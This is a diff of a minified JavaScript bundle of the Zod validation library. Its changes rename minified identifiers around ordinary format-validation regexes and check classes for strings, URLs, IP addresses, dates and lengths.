+pw=/^(([0-9a-fA-F]{1,4}:){7}[0-9a-fA-F]{1,4}|([0-9a-fA-F]{1,4}:){1,7}:|([0-9a-fA-F]{1,4}:){1,6}:[0-9a-fA-F]{1,4}|([0-9a-fA-F]{1,4}:){1,5}(:[0-9a-fA-F]{1,4}){1,2}|([0-9a-fA-F]{1,4}:){1,4}(:[0-9a-fA-F]{1,4}){1,3}|([0-9a-fA-F]{1,4}:){1,3}(:[0-9a-fA-F]{1,4}){1,4}|([0-9a-fA-F]{1,4}:){1,2}(:[0-9a-fA-F]{1,4}){1,5}|[0-9a-fA-F]{1,4}:((:[0-9a-fA-F]{1,4}){1,6})|:((:[0-9a-fA-F]{1,4}){1,7}|:))$/,
+kj=t=>{const e=util.escapeRegex(t??":");return new RegExp(`^(?:[0-9A-F]{2}${e}){5}[0-9A-F]{2}$|^(?:[0-9a-f]{2}${e}){5}[0\
+-9a-f]{2}$`)},mw=/^((25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9][0-9]|[0-9])\.){3}(25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9][0-9]|[0-9])\/([0-9]|[1-2][0-9]|3[0-2])$/,
+gw=/^(([0-9a-fA-F]{1,4}:){7}[0-9a-fA-F]{1,4}|([0-9a-fA-F]{1,4}:){1,7}:|([0-9a-fA-F]{1,4}:){1,6}:[0-9a-fA-F]{1,4}|([0-9a-fA-F]{1,4}:){1,5}(:[0-9a-fA-F]{1,4}){1,2}|([0-9a-fA-F]{1,4}:){1,4}(:[0-9a-fA-F]{1,4}){1,3}|([0-9a-fA-F]{1,4}:){1,3}(:[0-9a-fA-F]{1,4}){1,4}|([0-9a-fA-F]{1,4}:){1,2}(:[0-9a-fA-F]{1,4}){1,5}|[0-9a-fA-F]{1,4}:((:[0-9a-fA-F]{1,4}){1,6})|:((:[0-9a-fA-F]{1,4}){1,7}|:))\/(12[0-8]|1[01][0-9]|[1-9]?[0-9])$/,
+Cw=/^$|^(?:[0-9a-zA-Z+/]{4})*(?:(?:[0-9a-zA-Z+/]{2}==)|(?:[0-9a-zA-Z+/]{3}=))?$/,yw=/^(?:[A-Za-z0-9_-]{4})*(?:[A-Za-z0-9_-]{2,3})?$/,
+vj=/^(?=.{1,253}\.?$)[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?(?:\.[a-zA-Z0-9](?:[-0-9a-zA-Z]{0,61}[0-9a-zA-Z])?)*\.?$/,
+Dj=/^(?=.{1,253}$)([a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?\.)+[a-zA-Z]{2,63}$/,ww=/^https?$/,bw=/^\+[1-9]\d{6,14}$/,
+xj=/^\d(?:[ -]?\d){11,18}$/,Oj=/^(?:AED|AFN|ALL|AMD|AOA|ARS|AUD|AWG|AZN|BAM|BBD|BDT|BHD|BIF|BMD|BND|BOB|BOV|BRL|BSD|BTN|BWP|BYN|BZD|CAD|CDF|CHE|CHF|CHW|CLF|CLP|CNY|COP|COU|CRC|CUP|CVE|CZK|DJF|DKK|DOP|DZD|EGP|ERN|ETB|EUR|FJD|FKP|GBP|GEL|GHS|GIP|GMD|GNF|GTQ|GYD|HKD|HNL|HTG|HUF|IDR|ILS|INR|IQD|IRR|ISK|JMD|JOD|JPY|KES|KGS|KHR|KMF|KPW|KRW|KWD|KYD|KZT|LAK|LBP|LKR|LRD|LSL|LYD|MAD|MDL|MGA|MKD|MMK|MNT|MOP|MRU|MUR|MVR|MWK|MXN|MXV|MYR|MZN|NAD|NGN|NIO|NOK|NPR|NZD|OMR|PAB|PEN|PGK|PHP|PKR|PLN|PYG|QAR|RON|RSD|RUB|RWF|SAR|SBD|SCR|SDG|SEK|SGD|SHP|SLE|SOS|SRD|SSP|STN|SVC|SYP|SZL|THB|TJS|TMT|TND|TOP|TRY|TTD|TWD|TZS|UAH|UGX|USD|USN|UYI|UYU|UYW|UZS|VED|VES|VND|VUV|WST|XAD|XAF|XAG|XAU|XBA|XBB|XBC|XBD|XCD|XCG|XDR|XOF|XPD|XPF|XPT|XSU|XTS|XUA|XXX|YER|ZAR|ZMW|ZWG)$/,
+Aj=/^[A-Z]{2}(?!00|01|99)\d{2}[A-Z0-9]{11,30}$/,Wu="(?:(?:\\d\\d[2468][048]|\\d\\d[13579][26]|\\d\\d0[48]|[02468][048]00|[1357\
 9][26]00)-02-29|\\d{4}-(?:(?:0[13578]|1[02])-(?:0[1-9]|[12]\\d|3[01])|(?:0[469]|11)-(?:0[1-9]|[12]\\d|30)|(?:02)-(?:0[1-9]|\
-1\\d|2[0-8])))";function kw(t){return new RegExp(`^${t}$`)}const vw=kw(qu);function vo(t){const e="(?:[01]\\d|2[0-3]):[0-\
+1\\d|2[0-8])))";function _w(t){return new RegExp(`^${t}$`)}const Ew=_w(Wu);function vo(t){const e="(?:[01]\\d|2[0-3]):[0-\
 5]\\d";return typeof t.precision=="number"?t.precision===-1?`${e}`:t.precision===0?`${e}:[0-5]\\d`:`${e}:[0-5]\\d\\.\\d{${t.
-precision}}`:t.seconds?`${e}:[0-5]\\d(?:\\.\\d+)?`:`${e}(?::[0-5]\\d(?:\\.\\d+)?)?`}function Dw(t){return new RegExp(`^${vo(
-t)}$`)}function xw(t){const e=["Z"];t.offset&&e.push("([+-](?:[01]\\d|2[0-3]):[0-5]\\d)");const n=`${vo({precision:t.precision,
-seconds:!0})}(?:${e.join("|")})`,s=t.local?`${n}|${vo({precision:t.precision})}`:n;return new RegExp(`^${qu}T(?:${s})$`)}
-const Ow=/^[\s\S]{0,}$/,jj=t=>{const e=t?`[\\s\\S]{${t?.minimum??0},${t?.maximum??""}}`:"[\\s\\S]*";return new RegExp(`^${e}\
-$`)},Aw=/^-?\d+n?$/,Sw=/^-?\d+$/,Do=/^-?\d+(?:\.\d+)?$/,Tw=/^(?:true|false)$/i,Mj=/^null$/i,Gj=/^undefined$/i,Iw=/^[^A-Z]*$/,
-$w=/^[^a-z]*$/,Hj=/^[0-9a-fA-F]*$/;function zj(t,e){return new RegExp(`^[A-Za-z0-9+/]{${t}}${e}$`)}function Uj(t){return new RegExp(
-`^[A-Za-z0-9_-]{${t}}$`)}const Jj=/^[0-9a-fA-F]{32}$/,Zj=null,Kj=null,Wj=/^[0-9a-fA-F]{40}$/,qj=null,Vj=null,Yj=/^[0-9a-fA-F]{64}$/,
-Xj=null,Qj=null,eM=/^[0-9a-fA-F]{96}$/,tM=null,nM=null,sM=/^[0-9a-fA-F]{128}$/,rM=null,iM=null,ft=N("$ZodCheck",(t,e)=>{
-var n;t._zod??(t._zod={}),t._zod.def=e,(n=t._zod).onattach??(n.onattach=[])}),oM=t=>{const e=t.value;return!util.nullish(
-e)&&e.size!==void 0},xo=t=>{const e=t.value;return!ky(e)&&e.length!==void 0},br={number:"number",bigint:"bigint",object:"\
-date"},Vu=N("$ZodCheckLessThan",(t,e)=>{ft.init(t,e);const n=br[typeof e.value];t._zod.check=s=>{(e.inclusive?s.value<=e.
-value:s.value<e.value)||s.issues.push({origin:br[typeof s.value]??n,code:"too_big",maximum:typeof e.value=="object"?e.value.
-getTime():e.value,input:s.value,inclusive:e.inclusive,inst:t,continue:!e.abort})}}),Yu=N("$ZodCheckGreaterThan",(t,e)=>{
-ft.init(t,e);const n=br[typeof e.value];t._zod.check=s=>{(e.inclusive?s.value>=e.value:s.value>e.value)||s.issues.push({
-origin:br[typeof s.value]??n,code:"too_small",minimum:typeof e.value=="object"?e.value.getTime():e.value,input:s.value,inclusive:e.
-inclusive,inst:t,continue:!e.abort})}}),Rw=N("$ZodCheckMultipleOf",(t,e)=>{ft.init(t,e),t._zod.check=n=>{if(typeof n.value!=
+precision}}`:t.seconds?`${e}:[0-5]\\d(?:\\.\\d+)?`:`${e}(?::[0-5]\\d(?:\\.\\d+)?)?`}function kw(t){return new RegExp(`^${vo(
+t)}$`)}function vw(t){const e=["Z"];t.offset&&e.push("([+-](?:[01]\\d|2[0-3]):[0-5]\\d)");const n=`${vo({precision:t.precision,
+seconds:!0})}(?:${e.join("|")})`,s=t.local?`${n}|${vo({precision:t.precision})}`:n;return new RegExp(`^${Wu}T(?:${s})$`)}
+const Dw=/^[\s\S]{0,}$/,Sj=t=>{const e=t?`[\\s\\S]{${t?.minimum??0},${t?.maximum??""}}`:"[\\s\\S]*";return new RegExp(`^${e}\
+$`)},xw=/^-?\d+n?$/,Ow=/^-?\d+$/,Do=/^-?\d+(?:\.\d+)?$/,Aw=/^(?:true|false)$/i,Tj=/^null$/i,Ij=/^undefined$/i,Sw=/^[^A-Z]*$/,
+Tw=/^[^a-z]*$/,$j=/^[0-9a-fA-F]*$/;function Nj(t,e){return new RegExp(`^[A-Za-z0-9+/]{${t}}${e}$`)}function Rj(t){return new RegExp(
+`^[A-Za-z0-9_-]{${t}}$`)}const Fj=/^[0-9a-fA-F]{32}$/,Lj=null,Pj=null,jj=/^[0-9a-fA-F]{40}$/,Mj=null,Gj=null,Hj=/^[0-9a-fA-F]{64}$/,
+zj=null,Uj=null,Jj=/^[0-9a-fA-F]{96}$/,Zj=null,Kj=null,Wj=/^[0-9a-fA-F]{128}$/,qj=null,Vj=null,ft=R("$ZodCheck",(t,e)=>{
+var n;t._zod??(t._zod={}),t._zod.def=e,(n=t._zod).onattach??(n.onattach=[])}),Yj=t=>{const e=t.value;return!util.nullish(
+e)&&e.size!==void 0},xo=t=>{const e=t.value;return!_y(e)&&e.length!==void 0},yr={number:"number",bigint:"bigint",object:"\
+date"},qu=R("$ZodCheckLessThan",(t,e)=>{ft.init(t,e);const n=yr[typeof e.value];t._zod.check=s=>{(e.inclusive?s.value<=e.
+value:s.value<e.value)||s.issues.push({origin:yr[typeof s.value]??n,code:"too_big",maximum:typeof e.value=="object"?e.value.
+getTime():e.value,input:s.value,inclusive:e.inclusive,inst:t,continue:!e.abort})}}),Vu=R("$ZodCheckGreaterThan",(t,e)=>{
+ft.init(t,e);const n=yr[typeof e.value];t._zod.check=s=>{(e.inclusive?s.value>=e.value:s.value>e.value)||s.issues.push({
+origin:yr[typeof s.value]??n,code:"too_small",minimum:typeof e.value=="object"?e.value.getTime():e.value,input:s.value,inclusive:e.
+inclusive,inst:t,continue:!e.abort})}}),Iw=R("$ZodCheckMultipleOf",(t,e)=>{ft.init(t,e),t._zod.check=n=>{if(typeof n.value!=
 typeof e.value)throw new Error("Cannot mix number and bigint in multiple_of check.");(typeof n.value=="bigint"?e.value!==
-BigInt(0)&&n.value%e.value===BigInt(0):vy(n.value,e.value)===0)||n.issues.push({origin:typeof n.value,code:"not_multiple\
-_of",divisor:e.value,input:n.value,inst:t,continue:!e.abort})}}),Nw=N("$ZodCheckNumberFormat",(t,e)=>{ft.init(t,e),e.format=
-e.format||"float64";const n=e.format?.includes("int"),s=n?"int":"number",[r,i]=Pu[e.format];t._zod.check=o=>{const a=o.value;
+BigInt(0)&&n.value%e.value===BigInt(0):Ey(n.value,e.value)===0)||n.issues.push({origin:typeof n.value,code:"not_multiple\
+_of",divisor:e.value,input:n.value,inst:t,continue:!e.abort})}}),$w=R("$ZodCheckNumberFormat",(t,e)=>{ft.init(t,e),e.format=
+e.format||"float64";const n=e.format?.includes("int"),s=n?"int":"number",[r,i]=Lu[e.format];t._zod.check=o=>{const a=o.value;
 if(n){if(!Number.isInteger(a)){o.issues.push({expected:s,format:e.format,code:"invalid_type",continue:!1,input:a,inst:t});
 return}if(!Number.isSafeInteger(a)){a>0?o.issues.push({input:a,code:"too_big",maximum:Number.MAX_SAFE_INTEGER,note:"Inte\
 gers must be within the safe integer range.",inst:t,origin:s,inclusive:!0,continue:!e.abort}):o.issues.push({input:a,code:"\
 too_small",minimum:Number.MIN_SAFE_INTEGER,note:"Integers must be within the safe integer range.",inst:t,origin:s,inclusive:!0,
 continue:!e.abort});return}}a<r&&o.issues.push({origin:"number",input:a,code:"too_small",minimum:r,inclusive:!0,inst:t,continue:!e.
 abort}),a>i&&o.issues.push({origin:"number",input:a,code:"too_big",maximum:i,inclusive:!0,inst:t,continue:!e.abort})}}),
-aM=null,cM=null,uM=null,lM=null,Fw=N("$ZodCheckMaxLength",(t,e)=>{var n;ft.init(t,e),(n=t._zod.def).when??(n.when=xo),t.
+Xj=null,Qj=null,eM=null,tM=null,Nw=R("$ZodCheckMaxLength",(t,e)=>{var n;ft.init(t,e),(n=t._zod.def).when??(n.when=xo),t.
 _zod.check=s=>{const r=s.value,i=r.length;if((typeof r=="string"&&i>e.maximum?Co(r):i)<=e.maximum)return;const a=yo(r);s.
-issues.push({origin:a,code:"too_big",maximum:e.maximum,inclusive:!0,input:r,inst:t,continue:!e.abort})}}),Lw=N("$ZodChec\
+issues.push({origin:a,code:"too_big",maximum:e.maximum,inclusive:!0,input:r,inst:t,continue:!e.abort})}}),Rw=R("$ZodChec\
 kMinLength",(t,e)=>{var n;ft.init(t,e),(n=t._zod.def).when??(n.when=xo),t._zod.check=s=>{const r=s.value,i=r.length;if((typeof r==
 "string"&&i>=e.minimum&&i<e.minimum*2?Co(r):i)>=e.minimum)return;const a=yo(r);s.issues.push({origin:a,code:"too_small",
-minimum:e.minimum,inclusive:!0,input:r,inst:t,continue:!e.abort})}}),Pw=N("$ZodCheckLengthEquals",(t,e)=>{var n;ft.init(
+minimum:e.minimum,inclusive:!0,input:r,inst:t,continue:!e.abort})}}),Fw=R("$ZodCheckLengthEquals",(t,e)=>{var n;ft.init(
 t,e),(n=t._zod.def).when??(n.when=xo),t._zod.check=s=>{const r=s.value,i=r.length,o=typeof r=="string"&&i>=e.length&&i<=
 e.length*2?Co(r):i;if(o===e.length)return;const a=yo(r),c=o>e.length;s.issues.push({origin:a,...c?{code:"too_big",maximum:e.
-length}:{code:"too_small",minimum:e.length},inclusive:!0,exact:!0,input:s.value,inst:t,continue:!e.abort})}}),_r=N("$Zod\
+length}:{code:"too_small",minimum:e.length},inclusive:!0,exact:!0,input:s.value,inst:t,continue:!e.abort})}}),wr=R("$Zod\
 CheckStringFormat",(t,e)=>{var n,s;ft.init(t,e),e.pattern?(n=t._zod).check??(n.check=r=>{e.pattern.lastIndex=0,!e.pattern.
 test(r.value)&&r.issues.push({origin:"string",code:"invalid_format",format:e.format,input:r.value,...e.pattern?{pattern:e.
-pattern.toString()}:{},inst:t,continue:!e.abort})}):(s=t._zod).check??(s.check=()=>{})}),jw=N("$ZodCheckRegex",(t,e)=>{_r.
+pattern.toString()}:{},inst:t,continue:!e.abort})}):(s=t._zod).check??(s.check=()=>{})}),Lw=R("$ZodCheckRegex",(t,e)=>{wr.
 init(t,e),t._zod.check=n=>{e.pattern.lastIndex=0,!e.pattern.test(n.value)&&n.issues.push({origin:"string",code:"invalid_\
-format",format:"regex",input:n.value,pattern:e.pattern.toString(),inst:t,continue:!e.abort})}}),Mw=N("$ZodCheckLowerCase",
-(t,e)=>{e.pattern??(e.pattern=Iw),_r.init(t,e)}),Gw=N("$ZodCheckUpperCase",(t,e)=>{e.pattern??(e.pattern=$w),_r.init(t,e)}),
-Hw=N("$ZodCheckIncludes",(t,e)=>{ft.init(t,e);const n=os(e.includes),s=new RegExp(typeof e.position=="number"?`^.{${e.position}\
+format",format:"regex",input:n.value,pattern:e.pattern.toString(),inst:t,continue:!e.abort})}}),Pw=R("$ZodCheckLowerCase",
+(t,e)=>{e.pattern??(e.pattern=Sw),wr.init(t,e)}),jw=R("$ZodCheckUpperCase",(t,e)=>{e.pattern??(e.pattern=Tw),wr.init(t,e)}),
+Mw=R("$ZodCheckIncludes",(t,e)=>{ft.init(t,e);const n=os(e.includes),s=new RegExp(typeof e.position=="number"?`^.{${e.position}\
 ,}${n}`:n);e.pattern=s,t._zod.check=r=>{r.value.includes(e.includes,e.position)||r.issues.push({origin:"string",code:"in\
-valid_format",format:"includes",includes:e.includes,input:r.value,inst:t,continue:!e.abort})}}),zw=N("$ZodCheckStartsWit\
+valid_format",format:"includes",includes:e.includes,input:r.value,inst:t,continue:!e.abort})}}),Gw=R("$ZodCheckStartsWit\
 h",(t,e)=>{ft.init(t,e);const n=new RegExp(`^${os(e.prefix)}.*`);e.pattern??(e.pattern=n),t._zod.check=s=>{s.value.startsWith(
 e.prefix)||s.issues.push({origin:"string",code:"invalid_format",format:"starts_with",prefix:e.prefix,input:s.value,inst:t,
-continue:!e.abort})}}),Uw=N("$ZodCheckEndsWith",(t,e)=>{ft.init(t,e);const n=new RegExp(`.*${os(e.suffix)}$`);e.pattern??
+continue:!e.abort})}}),Hw=R("$ZodCheckEndsWith",(t,e)=>{ft.init(t,e);const n=new RegExp(`.*${os(e.suffix)}$`);e.pattern??
 (e.pattern=n),t._zod.check=s=>{s.value.endsWith(e.suffix)||s.issues.push({origin:"string",code:"invalid_format",format:"\
-ends_with",suffix:e.suffix,input:s.value,inst:t,continue:!e.abort})}});function Xu(t,e,n){t.issues.length&&e.issues.push(
-...rn(n,t.issues))}const dM=null,Jw=N("$ZodCheckProperties",(t,e)=>{ft.init(t,e),wo(t,Symbol.iterator,function*(){yield t});
+ends_with",suffix:e.suffix,input:s.value,inst:t,continue:!e.abort})}});function Yu(t,e,n){t.issues.length&&e.issues.push(
+...rn(n,t.issues))}const nM=null,zw=R("$ZodCheckProperties",(t,e)=>{ft.init(t,e),wo(t,Symbol.iterator,function*(){yield t});
 let n;t._zod.check=s=>{if(s.value==null){s.issues.push({expected:"object",code:"invalid_type",input:s.value,inst:t});return}
 n??(n=Reflect.ownKeys(e.shape).map(o=>[o,e.shape[o]]));const r=s.value;let i;for(const[o,a]of n){const c=a._zod.run({value:r[o],
-issues:[]},{});c instanceof Promise?(i??(i=[]),i.push(c.then(l=>Xu(l,s,o)))):Xu(c,s,o)}if(i)return Promise.all(i).then(()=>{})}}),
-BM=null,Zw=N("$ZodCheckOverwrite",(t,e)=>{ft.init(t,e),t._zod.check=n=>{n.value=e.tx(n.value)}});class Kw{constructor(e=[],n={}){
+issues:[]},{});c instanceof Promise?(i??(i=[]),i.push(c.then(l=>Yu(l,s,o)))):Yu(c,s,o)}if(i)return Promise.all(i).then(()=>{})}}),
+sM=null,Uw=R("$ZodCheckOverwrite",(t,e)=>{ft.init(t,e),t._zod.check=n=>{n.value=e.tx(n.value)}});class Jw{constructor(e=[],n={}){
 this.content=[],this.indent=0,this.args=e,this.closed=n}indented(e){this.indent+=1;try{e(this)}finally{this.indent-=1}}write(e){
 if(typeof e=="function"){e(this,{execution:"sync"}),e(this,{execution:"async"});return}const s=e.split(`
 `).filter(o=>o),r=Math.min(...s.map(o=>o.length-o.trimStart().length)),i=s.map(o=>o.slice(r)).map(o=>" ".repeat(this.indent*
@@ -2103,109 +2103,109 @@ if(typeof e=="function"){e(this,{execution:"sync"}),e(this,{execution:"async"});
 this.closed),`return function (${this.args.join(", ")}) {
 ${n.join(`
 `)}
-};`)(...Object.values(this.closed))}}const Ww={major:4,minor:6,patch:7},Ke=N("$ZodType",(t,e)=>{var n;t??(t={}),t._zod.def=
-e,t._zod.bag=t._zod.bag||{},t._zod.version=Ww;const s=t._zod.def.checks,r=t._zod.traits.has("$ZodCheck")?[t,...s??[]]:s?.
+};`)(...Object.values(this.closed))}}const Zw={major:4,minor:6,patch:7},Ke=R("$ZodType",(t,e)=>{var n;t??(t={}),t._zod.def=
+e,t._zod.bag=t._zod.bag||{},t._zod.version=Zw;const s=t._zod.def.checks,r=t._zod.traits.has("$ZodCheck")?[t,...s??[]]:s?.
 length?[...s]:[];for(const i of r)for(const o of i._zod.onattach)o(t);if(r.length===0)(n=t._zod).deferred??(n.deferred=[]),
 t._zod.deferred?.push(()=>{t._zod.run=t._zod.parse});else{const i=(a,c,l)=>{if(a.memo)return a;let u=Ht(a),d;for(const B of c){
-if(B._zod.def.when){if(jy(a)||!B._zod.def.when(a))continue}else if(u)continue;const f=a.issues.length,h=B._zod.check(a);
-if(h instanceof Promise&&l?.async===!1)throw new Nn;if(d||h instanceof Promise)d=(d??Promise.resolve()).then(async()=>{await h,
+if(B._zod.def.when){if(Ly(a)||!B._zod.def.when(a))continue}else if(u)continue;const f=a.issues.length,h=B._zod.check(a);
+if(h instanceof Promise&&l?.async===!1)throw new Rn;if(d||h instanceof Promise)d=(d??Promise.resolve()).then(async()=>{await h,
 a.issues.length!==f&&(go(a.issues,f,t),u||(u=Ht(a,f)))});else{if(a.issues.length===f)continue;go(a.issues,f,t),u||(u=Ht(
 a,f))}}return d?d.then(()=>a):a},o=(a,c,l)=>{if(Ht(a))return a.aborted=!0,a;const u=i(c,r,l);if(u instanceof Promise){if(l.
-async===!1)throw new Nn;return u.then(d=>t._zod.parse(d,l))}return t._zod.parse(u,l)};t._zod.run=(a,c)=>{if(c.skipChecks)
+async===!1)throw new Rn;return u.then(d=>t._zod.parse(d,l))}return t._zod.parse(u,l)};t._zod.run=(a,c)=>{if(c.skipChecks)
 return t._zod.parse(a,c);if(c.direction==="backward"){const u=t._zod.parse({value:a.value,issues:[]},{...c,skipChecks:!0});
 return u instanceof Promise?u.then(d=>o(d,a,c)):o(u,a,c)}const l=t._zod.parse(a,c);if(l instanceof Promise){if(c.async===
-!1)throw new Nn;return l.then(u=>i(u,r,c))}return i(l,r,c)}}},{get"~standard"(){return wo(this,"~standard",el(this))},set"\
-~standard"(t){wn(this,"~standard",t)}}),Qu=(t,e)=>t.issues.length?{issues:t.issues.map(n=>yn(n,e,Vt()))}:{value:t.value};
-async function qw(t,e){const n={async:!0};return Qu(await t._zod.run({value:e,issues:[]},n),n)}function el(t){return{validate:e=>{
-const n={async:!1};try{const s=t._zod.run({value:e,issues:[]},n);if(!(s instanceof Promise))return Qu(s,n)}catch{}return qw(
-t,e)},vendor:"zod",version:1}}const Oo=N("$ZodString",(t,e)=>{Ke.init(t,e),t._zod.pattern=e.pattern??Ow,t._zod.parse=(n,s)=>{
+!1)throw new Rn;return l.then(u=>i(u,r,c))}return i(l,r,c)}}},{get"~standard"(){return wo(this,"~standard",Qu(this))},set"\
+~standard"(t){wn(this,"~standard",t)}}),Xu=(t,e)=>t.issues.length?{issues:t.issues.map(n=>yn(n,e,Vt()))}:{value:t.value};
+async function Kw(t,e){const n={async:!0};return Xu(await t._zod.run({value:e,issues:[]},n),n)}function Qu(t){return{validate:e=>{
+const n={async:!1};try{const s=t._zod.run({value:e,issues:[]},n);if(!(s instanceof Promise))return Xu(s,n)}catch{}return Kw(
+t,e)},vendor:"zod",version:1}}const Oo=R("$ZodString",(t,e)=>{Ke.init(t,e),t._zod.pattern=e.pattern??Dw,t._zod.parse=(n,s)=>{
 if(e.coerce)try{n.value=String(n.value)}catch{}return typeof n.value=="string"||n.issues.push({expected:"string",code:"i\
-nvalid_type",input:n.value,inst:t}),n}}),Qe=N("$ZodStringFormat",(t,e)=>{_r.init(t,e),Oo.init(t,e)}),Vw=N("$ZodGUID",(t,e)=>{
-e.pattern??(e.pattern=Bw),Qe.init(t,e)}),Yw=N("$ZodUUID",(t,e)=>{if(e.version){const s={v1:1,v2:2,v3:3,v4:4,v5:5,v6:6,v7:7,
-v8:8}[e.version];if(s===void 0)throw new Error(`Invalid UUID version: "${e.version}"`);e.pattern??(e.pattern=Wu(s))}else
-e.pattern??(e.pattern=Wu());Qe.init(t,e)}),Xw=N("$ZodEmail",(t,e)=>{e.pattern??(e.pattern=fw),Qe.init(t,e)}),tl=1,Er=2;function nl(t){
-try{return typeof URL<"u"&&typeof URL.canParse=="function"?URL.canParse(t):(new URL(t),!0)}catch{return!1}}function Qw(t,e){
-return!("normalize"in e)&&!("hostname"in e)&&!("protocol"in e)?nl(t)||Er:eb(t,e)}function eb(t,e){if(!e.normalize&&e.protocol?.
-source===_w.source&&!/^https?:\/\//i.test(t))return tl;try{if(typeof URL<"u"){const n=URL;if(typeof n.parse=="function")
-return n.parse(t)??Er}return new URL(t)}catch{return Er}}const tb=/[\t\n\r]/g;function sl(t){return t.replace(tb,"")}function nb(t,e){
-return e.lastIndex=0,e.test(t.hostname)}function sb(t,e){return e.lastIndex=0,e.test(t.protocol.endsWith(":")?t.protocol.
-slice(0,-1):t.protocol)}const rb=N("$ZodURL",(t,e)=>{Qe.init(t,e),t._zod.check=n=>{try{const s=n.value.trim(),r=Qw(s,e);
-if(r===tl){n.issues.push({code:"invalid_format",format:"url",note:"Invalid URL format",input:n.value,inst:t,continue:!e.
-abort});return}if(r===Er){n.issues.push({code:"invalid_format",format:"url",input:n.value,inst:t,continue:!e.abort});return}
-if(r===!0){n.value=sl(s);return}e.hostname&&!nb(r,e.hostname)&&n.issues.push({code:"invalid_format",format:"url",note:"I\
-nvalid hostname",pattern:e.hostname.source,input:n.value,inst:t,continue:!e.abort}),e.protocol&&!sb(r,e.protocol)&&n.issues.
+nvalid_type",input:n.value,inst:t}),n}}),Qe=R("$ZodStringFormat",(t,e)=>{wr.init(t,e),Oo.init(t,e)}),Ww=R("$ZodGUID",(t,e)=>{
+e.pattern??(e.pattern=lw),Qe.init(t,e)}),qw=R("$ZodUUID",(t,e)=>{if(e.version){const s={v1:1,v2:2,v3:3,v4:4,v5:5,v6:6,v7:7,
+v8:8}[e.version];if(s===void 0)throw new Error(`Invalid UUID version: "${e.version}"`);e.pattern??(e.pattern=Ku(s))}else
+e.pattern??(e.pattern=Ku());Qe.init(t,e)}),Vw=R("$ZodEmail",(t,e)=>{e.pattern??(e.pattern=dw),Qe.init(t,e)}),el=1,br=2;function tl(t){
+try{return typeof URL<"u"&&typeof URL.canParse=="function"?URL.canParse(t):(new URL(t),!0)}catch{return!1}}function Yw(t,e){
+return!("normalize"in e)&&!("hostname"in e)&&!("protocol"in e)?tl(t)||br:Xw(t,e)}function Xw(t,e){if(!e.normalize&&e.protocol?.
+source===ww.source&&!/^https?:\/\//i.test(t))return el;try{if(typeof URL<"u"){const n=URL;if(typeof n.parse=="function")
+return n.parse(t)??br}return new URL(t)}catch{return br}}const Qw=/[\t\n\r]/g;function nl(t){return t.replace(Qw,"")}function eb(t,e){
+return e.lastIndex=0,e.test(t.hostname)}function tb(t,e){return e.lastIndex=0,e.test(t.protocol.endsWith(":")?t.protocol.
+slice(0,-1):t.protocol)}const nb=R("$ZodURL",(t,e)=>{Qe.init(t,e),t._zod.check=n=>{try{const s=n.value.trim(),r=Yw(s,e);
+if(r===el){n.issues.push({code:"invalid_format",format:"url",note:"Invalid URL format",input:n.value,inst:t,continue:!e.
+abort});return}if(r===br){n.issues.push({code:"invalid_format",format:"url",input:n.value,inst:t,continue:!e.abort});return}
+if(r===!0){n.value=nl(s);return}e.hostname&&!eb(r,e.hostname)&&n.issues.push({code:"invalid_format",format:"url",note:"I\
+nvalid hostname",pattern:e.hostname.source,input:n.value,inst:t,continue:!e.abort}),e.protocol&&!tb(r,e.protocol)&&n.issues.
 push({code:"invalid_format",format:"url",note:"Invalid protocol",pattern:e.protocol.source,input:n.value,inst:t,continue:!e.
-abort}),n.value=e.normalize?r.href:sl(s);return}catch{n.issues.push({code:"invalid_format",format:"url",input:n.value,inst:t,
-continue:!e.abort})}}}),ib=N("$ZodEmoji",(t,e)=>{e.pattern??(e.pattern=pw()),Qe.init(t,e)}),ob=N("$ZodNanoID",(t,e)=>{if(e.
+abort}),n.value=e.normalize?r.href:nl(s);return}catch{n.issues.push({code:"invalid_format",format:"url",input:n.value,inst:t,
+continue:!e.abort})}}}),sb=R("$ZodEmoji",(t,e)=>{e.pattern??(e.pattern=fw()),Qe.init(t,e)}),rb=R("$ZodNanoID",(t,e)=>{if(e.
 length!==void 0&&(!Number.isInteger(e.length)||e.length<1))throw new Error(`Invalid nanoid length: ${e.length}`);e.pattern??
-(e.pattern=e.length===void 0?uw:lw(e.length)),Qe.init(t,e)}),ab=N("$ZodCUID",(t,e)=>{e.pattern??(e.pattern=rw),Qe.init(t,
-e)}),cb=N("$ZodCUID2",(t,e)=>{e.pattern??(e.pattern=iw),Qe.init(t,e)}),ub=N("$ZodULID",(t,e)=>{e.pattern??(e.pattern=ow),
-Qe.init(t,e)}),lb=N("$ZodXID",(t,e)=>{e.pattern??(e.pattern=aw),Qe.init(t,e)}),db=N("$ZodKSUID",(t,e)=>{e.pattern??(e.pattern=
-cw),Qe.init(t,e)}),Bb=N("$ZodISODateTime",(t,e)=>{e.pattern??(e.pattern=xw(e)),Qe.init(t,e)}),fb=N("$ZodISODate",(t,e)=>{
-e.pattern??(e.pattern=vw),Qe.init(t,e)}),hb=N("$ZodISOTime",(t,e)=>{e.pattern??(e.pattern=Dw(e)),Qe.init(t,e)}),pb=N("$Z\
-odISODuration",(t,e)=>{e.pattern??(e.pattern=dw),Qe.init(t,e)}),mb=N("$ZodIPv4",(t,e)=>{e.pattern??(e.pattern=mw),Qe.init(
-t,e)}),gb=/^[0-9a-fA-F:.]+$/;function rl(t){return gb.test(t)?nl(`http://[${t}]`):!1}const Cb=N("$ZodIPv6",(t,e)=>{e.pattern??
-(e.pattern=gw),Qe.init(t,e),t._zod.check=n=>{rl(n.value)||n.issues.push({code:"invalid_format",format:"ipv6",input:n.value,
-inst:t,continue:!e.abort})}}),fM=null,yb=N("$ZodCIDRv4",(t,e)=>{e.pattern??(e.pattern=Cw),Qe.init(t,e)});function wb(t){
+(e.pattern=e.length===void 0?aw:cw(e.length)),Qe.init(t,e)}),ib=R("$ZodCUID",(t,e)=>{e.pattern??(e.pattern=nw),Qe.init(t,
+e)}),ob=R("$ZodCUID2",(t,e)=>{e.pattern??(e.pattern=sw),Qe.init(t,e)}),ab=R("$ZodULID",(t,e)=>{e.pattern??(e.pattern=rw),
+Qe.init(t,e)}),cb=R("$ZodXID",(t,e)=>{e.pattern??(e.pattern=iw),Qe.init(t,e)}),ub=R("$ZodKSUID",(t,e)=>{e.pattern??(e.pattern=
